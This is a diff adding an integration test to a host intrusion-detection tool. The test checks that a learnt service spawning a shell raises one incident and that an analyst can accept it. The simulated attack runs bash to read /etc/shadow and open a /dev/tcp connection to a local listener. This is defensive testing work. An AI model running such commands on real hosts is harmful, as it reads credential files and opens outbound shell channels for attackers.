@@ -486,6 +486,153 @@ int main(void) {{
     );
 }
 
+/// Host baselines, live: a service learns what it does (it starts `ls`);
+/// after learning, the same service runs a shell that reads /etc/shadow
+/// and connects out: one incident whose tree names the shell and `cat`
+/// with baseline findings that say what was seen; `ls` again raises
+/// nothing. `daisi baseline accept` on the incident folds it into the
+/// profile: a node started again (profile reloaded) stays quiet on the
+/// same steps, and `daisi baseline show` lists them as accepted.
+#[test]
+fn a_learnt_service_that_starts_a_shell_is_one_incident_then_accepted() {
+    if !root() {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let baselines = dir.path().join("baselines");
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    // A service that runs what it is told (the flaw), and says when done.
+    let script = format!(
+        "import subprocess, sys\n\
+         for line in sys.stdin:\n\
+         \x20   if line.startswith('ls'): subprocess.run(['ls', '/usr'], stdout=subprocess.DEVNULL)\n\
+         \x20   elif line.startswith('attack'): subprocess.run(['bash', '-c', 'cat /etc/shadow > /dev/null; exec 3<>/dev/tcp/127.0.0.1/{port}; echo hi >&3'])\n\
+         \x20   print('done', flush=True)\n"
+    );
+    let mut svc = Command::new("python3")
+        .args(["-u", "-c", &script])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let svc_pid = svc.id();
+    let mut out = std::io::BufReader::new(svc.stdout.take().unwrap());
+    let mut input = svc.stdin.take().unwrap();
+    let mut ask = |what: &str| {
+        use std::io::BufRead;
+        writeln!(input, "{what}").unwrap();
+        let mut l = String::new();
+        out.read_line(&mut l).unwrap();
+        assert_eq!(l.trim(), "done");
+    };
+    let alerts = dir.path().join("alerts.jsonl");
+    let toml = format!(
+        "[node]\nrole = \"both\"\nhost = \"svc-host\"\n[syscall_source]\nkind = \"ebpf\"\npids = [{}]\n\
+         [syscall_batcher]\nmax_wait = \"200ms\"\n\
+         [syscall_classifier]\nthreshold = 2.0\n\
+         [baseline]\nlearn_for = \"3s\"\nsave_every = \"1s\"\n\
+         [alert]\nconsole = false\njsonl = \"{}\"\n",
+        svc_pid,
+        alerts.display()
+    );
+    let env = [("DAISI__BASELINE__DIR", baselines.to_str().unwrap())];
+    let mut node = common::Daisi::spawn(&toml, &env);
+    node.wait_running();
+    for _ in 0..3 {
+        ask("ls");
+        std::thread::sleep(Duration::from_millis(300));
+    }
+    // Learning ends 3 s after the first batch.
+    std::thread::sleep(Duration::from_secs(3));
+    ask("ls");
+    ask("attack");
+    // The incident goes out at the first finding; the rest of the tree
+    // joins it and goes out as its update (here: at the stop).
+    common::wait_for_alert(
+        &alerts,
+        Duration::from_secs(15),
+        |a| a["module"] == "incident",
+        "no incident for the shell",
+        || node.log(),
+    );
+    std::thread::sleep(Duration::from_secs(2));
+    assert!(node.stop(Duration::from_secs(10)).success());
+    let all = common::read_alerts(&alerts);
+    let a = all
+        .iter()
+        .rfind(|a| a["module"] == "incident")
+        .unwrap()
+        .clone();
+    let rules: Vec<String> = a["tree"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .flat_map(|m| m["findings"].as_array().cloned().unwrap_or_default())
+        .filter_map(|f| f["rule"]["name"].as_str().map(String::from))
+        .collect();
+    for r in [
+        "baseline.new_child",
+        "baseline.sensitive_read",
+        "baseline.new_peer",
+    ] {
+        assert!(rules.iter().any(|x| x == r), "{r} missing: {a:#}");
+    }
+    let text = a.to_string();
+    assert!(
+        text.contains("/etc/shadow") && text.contains(&format!("127.0.0.1:{port}")),
+        "{a:#}"
+    );
+    // One attack, one incident: its first line and its update at most.
+    let lines = all.iter().filter(|x| x["id"] == a["id"]).count();
+    assert!(lines <= 2, "{all:#?}");
+    assert!(
+        all.iter().all(|x| x["module"] != "baseline"),
+        "findings go into the tree's incident: {all:#?}"
+    );
+    // ls, learnt, is nowhere; the tree is rooted at the service.
+    let tree = a["tree"].as_array().unwrap();
+    assert!(!tree.iter().any(|m| m["name"] == "ls"), "{a:#}");
+    assert_eq!(tree[0]["pid"].as_u64(), Some(svc_pid as u64), "{a:#}");
+    assert!(baselines.join("svc-host.json").is_file());
+
+    // Accept the incident's findings; the next run is quiet on them.
+    let id = a["id"].as_str().unwrap();
+    let cli = |args: &[&str]| {
+        let o = Command::new(common::daisi_bin())
+            .args(args)
+            .env("DAISI__BASELINE__DIR", &baselines)
+            .current_dir(env!("CARGO_MANIFEST_DIR"))
+            .output()
+            .unwrap();
+        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+        String::from_utf8_lossy(&o.stdout).into_owned()
+    };
+    let said = cli(&["baseline", "accept", id, "--file", alerts.to_str().unwrap()]);
+    assert!(said.contains("accepted for svc-host"), "{said}");
+    let shown = cli(&["baseline", "show", "--host", "svc-host"]);
+    assert!(shown.contains("detecting"), "{shown}");
+    assert!(shown.contains("starts /usr/bin/bash (accepted)"), "{shown}");
+    assert!(shown.contains("starts /usr/bin/ls"), "{shown}");
+
+    let alerts2 = dir.path().join("alerts2.jsonl");
+    let toml2 = toml.replace(alerts.to_str().unwrap(), alerts2.to_str().unwrap());
+    let mut node = common::Daisi::spawn(&toml2, &env);
+    node.wait_running();
+    ask("attack");
+    std::thread::sleep(Duration::from_secs(3));
+    assert!(node.stop(Duration::from_secs(10)).success());
+    let again = common::read_alerts(&alerts2);
+    assert!(
+        !again.iter().any(|x| x.to_string().contains("\"baseline\"")),
+        "accepted behaviour raised again: {again:#?}\n{}",
+        node.log()
+    );
+    drop(input); // the service ends at the end of its input
+    let _ = svc.wait();
+    drop(listener);
+}
+
 /// Alerts name the process with its arguments (redacted), its parent and
 /// its user, in its process tree's incident. The threshold is forced to 0:
 /// what is tested is the naming.
@@ -581,7 +728,8 @@ fn without_privileges_the_error_names_what_is_missing() {
     let cfg = dir.path().join("c.toml");
     std::fs::write(
         &cfg,
-        "[node]\nrole = \"both\"\n[syscall_source]\nkind = \"ebpf\"\nall = true\n",
+        // Baselines off: what is tested is the capture's privileges.
+        "[node]\nrole = \"both\"\n[syscall_source]\nkind = \"ebpf\"\nall = true\n[baseline]\nenabled = false\n",
     )
     .unwrap();
     let out = common::run_unprivileged(&cfg);
